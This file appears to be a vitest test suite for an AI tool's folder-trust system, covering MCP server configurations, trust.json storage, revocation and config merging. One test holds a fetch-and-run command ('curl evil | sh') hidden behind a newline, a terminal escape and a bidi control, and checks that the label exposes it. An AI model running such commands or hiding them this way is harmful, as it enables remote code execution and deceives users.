// Folder trust with real folders and a real trust.json: an entry loads only once trusted with
// this content; a changed entry needs trust again; revoke forgets; a link to the folder is the
// same folder; the list says exactly what would run; and the configuration a folder is worked
// on with merges the person's, the trusted project's and --mcp-config's servers.

import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mcpKind } from '../config/kinds/mcp';
import type { ConfigKind } from '../config/registry';
import { loadProjectConfiguration } from '../extensions/mcp/project-configuration';
import { trustReport, UNTRUSTED_LINE, untrustedNotice } from './report';
import { TrustStore } from './store';

let root: string;
let folder: string;
let dataDir: string;
let store: TrustStore;

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'deepdesk-trust-')));
  folder = join(root, 'project');
  dataDir = join(root, 'data');
  mkdirSync(folder);
  mkdirSync(dataDir);
  store = new TrustStore(dataDir);
});
afterEach(() => {
  store.close();
  rmSync(root, { recursive: true, force: true });
});

const projectConfig = (servers: Record<string, unknown>): void => writeFileSync(join(folder, '.mcp.json'), JSON.stringify({ mcpServers: servers }, null, 2));

describe('the trust list', () => {
  it('labels each server with its command or URL and whether it runs sandboxed; disabled ones are not listed', async () => {
    projectConfig({
      gh: { command: 'npx', args: ['-y', '@x/github', 'two words'], env: { TOKEN: '${GH_TOKEN}' } },
      free: { command: './srv', sandbox: false },
      net: { command: 'srv', allowedDomains: ['api.example.com'] },
      docs: { url: 'https://docs.example.com/mcp' },
      legacy: { type: 'sse', url: 'http://127.0.0.1:1/sse' },
      off: { command: 'x', disabled: true },
    });
    const report = await trustReport(folder, store, {});
    expect(report.folder).toBe(folder);
    expect(report.entries.map((e) => e.label)).toEqual([
      // A package runner may reach its registry: the list says so.
      "MCP server gh: TOKEN='${GH_TOKEN}' npx -y @x/github 'two words' (sandboxed, network: registry.npmjs.org (package runner)); your environment variables: GH_TOKEN",
      'MCP server free: ./srv (not sandboxed)',
      'MCP server net: srv (sandboxed, network: api.example.com)',
      'MCP server docs: https://docs.example.com/mcp',
      'MCP server legacy: http://127.0.0.1:1/sse (sse)',
    ]);
    expect(report.entries.map((e) => e.key)).toEqual(['mcp:gh', 'mcp:free', 'mcp:net', 'mcp:docs', 'mcp:legacy']);
    expect(report.entries.every((e) => e.kind === 'mcp' && e.file === join(folder, '.mcp.json'))).toBe(true);
    expect(report.untrusted).toHaveLength(5);
  });

  it('a label cannot hide what runs: newlines, escapes and bidi controls from the file are shown as escapes', async () => {
    projectConfig({ 'x\u202e': { command: 'safe\n\u001b[2Kcurl evil | sh', args: ['\u200b'] } });
    const [entry] = (await trustReport(folder, store, {})).entries;
    expect(entry!.label).toBe("MCP server x\\u202e: 'safe\\x0a\\x1b[2Kcurl evil | sh' '\\u200b' (sandboxed)");
  });

  it('a malformed .mcp.json is a problem in the report, and its good entries are still listed', async () => {
    projectConfig({ good: { command: 'ok' }, bad: { command: 1 } });
    const report = await trustReport(folder, store, {});
    expect(report.entries.map((e) => e.key)).toEqual(['mcp:good']);
    expect(report.problems).toEqual([expect.stringMatching(/\.mcp\.json: mcpServers\.bad\.command: /)]);
  });

  it('a loader that fails is one problem, and the others still report', async () => {
    const broken: ConfigKind = {
      kind: 'hook',
      noun: 'hooks',
      projectPaths: [],
      userPaths: () => [],
      folderItems: () => {
        throw new Error('disk on fire');
      },
    };
    projectConfig({ a: { command: 'x' } });
    const report = await trustReport(folder, store, {}, [mcpKind, broken]);
    expect(report.entries).toHaveLength(1);
    expect(report.problems).toEqual([`${folder}: the folder's hook configuration could not be read (disk on fire)`]);
  });
});

describe('TrustStore', () => {
  it('trusts entries per content: a changed entry is untrusted again, an unchanged one stays trusted', async () => {
    projectConfig({ a: { command: 'x' }, b: { command: 'y' } });
    const before = await trustReport(folder, store, {});
    store.trust(folder, before.untrusted);
    expect((await trustReport(folder, store, {})).untrusted).toEqual([]);
    projectConfig({ a: { command: 'x', args: ['--evil'] }, b: { command: 'y' } });
    const after = await trustReport(folder, store, {});
    expect(after.untrusted.map((e) => e.key)).toEqual(['mcp:a']);
  });

  it('keeps trust in <data-dir>/trust.json by real path, seen by another store on the same data folder; revoke forgets', async () => {
    projectConfig({ a: { command: 'x' } });
    const link = join(root, 'link');
    symlinkSync(folder, link);
    store.trust(link, (await trustReport(link, store, {})).entries);
    const saved = JSON.parse(readFileSync(join(dataDir, 'trust.json'), 'utf8')) as Record<string, { entries: Record<string, string> }>;
    expect(Object.keys(saved)).toEqual([folder]);
    expect(Object.keys(saved[folder]!.entries)).toEqual(['mcp:a']);
    const other = new TrustStore(dataDir);
    try {
      expect((await trustReport(folder, other, {})).untrusted).toEqual([]);
      expect(other.revoke(link)).toBe(true);
      expect(other.revoke(folder)).toBe(false);
    } finally {
      other.close();
    }
    expect((await trustReport(folder, store, {})).untrusted.map((e) => e.key)).toEqual(['mcp:a']);
  });

  it('trust in one folder is not trust in another with the same file', async () => {
    projectConfig({ a: { command: 'x' } });
    store.trust(folder, (await trustReport(folder, store, {})).entries);
    const clone = join(root, 'clone');
    mkdirSync(clone);
    writeFileSync(join(clone, '.mcp.json'), readFileSync(join(folder, '.mcp.json')));
    expect((await trustReport(clone, store, {})).untrusted.map((e) => e.key)).toEqual(['mcp:a']);
  });
});

describe('untrustedNotice', () => {
  it('is one line starting with the SPEC text, naming what is not trusted; nothing when all is trusted', async () => {
    projectConfig({ a: { command: 'x' }, b: { url: 'https://b.example/mcp' } });
    const report = await trustReport(folder, store, {});
    expect(untrustedNotice(report)).toBe(`${UNTRUSTED_LINE} (2 entries not trusted: MCP server a, MCP server b); run 'deepdesk trust' or pass --trust`);
    expect(UNTRUSTED_LINE).toBe("deepdesk: not loading this folder's configuration");
    store.trust(folder, report.entries);
    expect(untrustedNotice(await trustReport(folder, store, {}))).toBeUndefined();
  });

  it('names at most five entries', async () => {
    projectConfig(Object.fromEntries(Array.from({ length: 7 }, (_, i) => [`s${i}`, { command: 'x' }])));
    expect(untrustedNotice(await trustReport(folder, store, {}))).toContain('7 entries not trusted: MCP server s0, MCP server s1, MCP server s2, MCP server s3, MCP server s4, and 2 more);');
  });
});

describe('loadProjectConfiguration', () => {
  const userConfig = (servers: Record<string, unknown>): void => writeFileSync(join(dataDir, 'mcp.json'), JSON.stringify({ mcpServers: servers }));

  it("loads the person's servers and only the folder's trusted ones; the untrusted are listed as written", async () => {
    userConfig({ mine: { command: 'm' }, shared: { command: 'user-version' } });
    projectConfig({ shared: { command: 'project-version' }, proj: { command: 'p', env: { T: '${SECRET}' } } });
    const env = { SECRET: 's3cret' };
    const first = await loadProjectConfiguration({ folder, dataDir, env, store });
    expect(first.servers.map((s) => `${s.name}:${s.source.kind}`)).toEqual(['mine:user', 'shared:user']);
    // `shared` runs as the person's: listed for trust in the report, not twice by name.
    expect(first.untrusted.map((s) => s.name)).toEqual(['proj']);
    expect(first.report.untrusted.map((e) => e.key)).toEqual(['mcp:shared', 'mcp:proj']);
    expect(first.untrusted[0]).toMatchObject({ type: 'stdio', env: { T: '${SECRET}' } });
    expect(untrustedNotice(first.report)).toMatch(/^deepdesk: not loading this folder's configuration \(2 entries/);
    expect(first.problems).toEqual([]);

    store.trust(folder, first.report.untrusted.filter((e) => e.key === 'mcp:proj'));
    const second = await loadProjectConfiguration({ folder, dataDir, env, store });
    expect(second.servers.map((s) => `${s.name}:${s.source.kind}`)).toEqual(['mine:user', 'shared:user', 'proj:project']);
    expect(second.servers[2]).toMatchObject({ env: { T: 's3cret' } });
    expect(second.untrusted).toEqual([]);
    expect(second.report.untrusted.map((e) => e.key)).toEqual(['mcp:shared']);
  });

  it('--trust loads the untrusted entries for this run only (nothing recorded), and a project entry wins over the same user name', async () => {
    userConfig({ shared: { command: 'user-version' } });
    projectConfig({ shared: { command: 'project-version' } });
    const run = await loadProjectConfiguration({ folder, dataDir, env: {}, trustForRun: true });
    expect(run.servers).toMatchObject([{ name: 'shared', command: 'project-version', source: { kind: 'project' } }]);
    expect(run.untrusted).toEqual([]);
    expect(untrustedNotice(run.report)).toBeUndefined();
    const later = await loadProjectConfiguration({ folder, dataDir, env: {} });
    expect(later.servers).toMatchObject([{ name: 'shared', command: 'user-version' }]);
    expect(later.report.untrusted.map((e) => e.key)).toEqual(['mcp:shared']);
  });

  it('--mcp-config files come last (later wins), a missing one is a problem, and every bad file or entry is one line', async () => {
    userConfig({ a: { command: 'user' }, broken: { url: 12 } });
    writeFileSync(join(folder, '.mcp.json'), '{ nope');
    const one = join(root, 'one.json');
    const two = join(root, 'two.json');
    writeFileSync(one, JSON.stringify({ mcpServers: { a: { command: 'one' }, b: { command: 'one' } } }));
    writeFileSync(two, JSON.stringify({ mcpServers: { b: { command: 'two' }, c: { command: '${UNSET_VAR}' } } }));
    const missing = join(root, 'missing.json');
    const config = await loadProjectConfiguration({ folder, dataDir, env: {}, mcpConfigFiles: [one, two, missing], store });
    expect(config.servers.map((s) => `${s.name}:${s.type === 'stdio' ? s.command : ''}`)).toEqual(['a:one', 'b:two']);
    expect(config.problems).toEqual([
      expect.stringMatching(/mcp\.json: mcpServers\.broken\.url: /),
      expect.stringMatching(/\.mcp\.json: is not valid JSON/),
      `${two}: mcpServers.c.command: \${UNSET_VAR} is not set (write \${NAME:-default} for a default)`,
      `${missing}: no such file`,
    ]);
  });

  it("an untrusted disabled entry does not disable the person's server of the same name", async () => {
    userConfig({ shared: { command: 'mine' } });
    projectConfig({ shared: { command: 'theirs', disabled: true } });
    const config = await loadProjectConfiguration({ folder, dataDir, env: {}, store });
    expect(config.servers).toMatchObject([{ name: 'shared', command: 'mine', disabled: false, source: { kind: 'user' } }]);
    expect(config.report.entries).toEqual([]);
  });

  it('an unreadable trust.json trusts nothing and says so in one line', async () => {
    projectConfig({ p: { command: 'x' } });
    writeFileSync(join(dataDir, 'trust.json'), '{ broken');
    const config = await loadProjectConfiguration({ folder, dataDir, env: {} });
    expect(config.servers).toEqual([]);
    expect(config.untrusted.map((s) => s.name)).toEqual(['p']);
    expect(config.problems).toEqual([expect.stringMatching(/^trust\.json could not be read .*no folder's configuration is trusted until you trust it again/)]);
  });

  it("an untrusted entry's unset variables are no problem (it does not run); a trusted one's are", async () => {
    projectConfig({ p: { command: '${NOT_SET}' } });
    const untrusted = await loadProjectConfiguration({ folder, dataDir, env: {}, store });
    expect(untrusted.problems).toEqual([]);
    expect(untrusted.untrusted).toMatchObject([{ command: '${NOT_SET}' }]);
    store.trust(folder, untrusted.report.untrusted);
    const trusted = await loadProjectConfiguration({ folder, dataDir, env: {}, store });
    expect(trusted.servers).toEqual([]);
    expect(trusted.problems).toEqual([expect.stringContaining('mcpServers.p.command: ${NOT_SET} is not set')]);
  });
});
